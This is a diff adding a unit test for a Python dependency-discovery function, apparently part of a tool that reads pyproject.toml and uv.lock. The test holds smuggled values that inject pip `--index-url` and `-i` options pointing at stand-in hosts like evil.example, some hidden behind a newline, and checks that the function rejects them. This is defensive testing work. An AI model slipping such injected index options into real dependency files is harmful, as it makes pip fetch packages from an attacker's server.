@@ -200,6 +200,21 @@ commands = pytest
     expect(found.sources).toEqual(['requirements-test.txt', 'tox.ini']);
   });
 
+  it('never lets a requirement or a lock version carry pip options into pip', () => {
+    const found = discoverRequirements(
+      tree({
+        'pyproject.toml':
+          '[project]\nname = "app"\ndependencies = ["six\\n--index-url http://evil.example/simple", "attrs --index-url=http://evil", "idna"]\n',
+        'uv.lock':
+          'version = 1\n[[package]]\nname = "idna"\nversion = "3.6\\n-i http://evil"\nsource = { registry = "x" }\n',
+      }),
+      auto,
+    );
+    expect(found.requirements).toEqual(['idna']);
+    expect(found.pins).toEqual([]);
+    expect(found.notes.filter((n) => /holds pip options or line breaks/.test(n))).toHaveLength(2);
+  });
+
   it('says what is wrong with a broken pyproject.toml instead of throwing', () => {
     const found = discoverRequirements(tree({ 'pyproject.toml': '[project\nname=' }), auto);
     expect(found.requirements).toEqual([]);
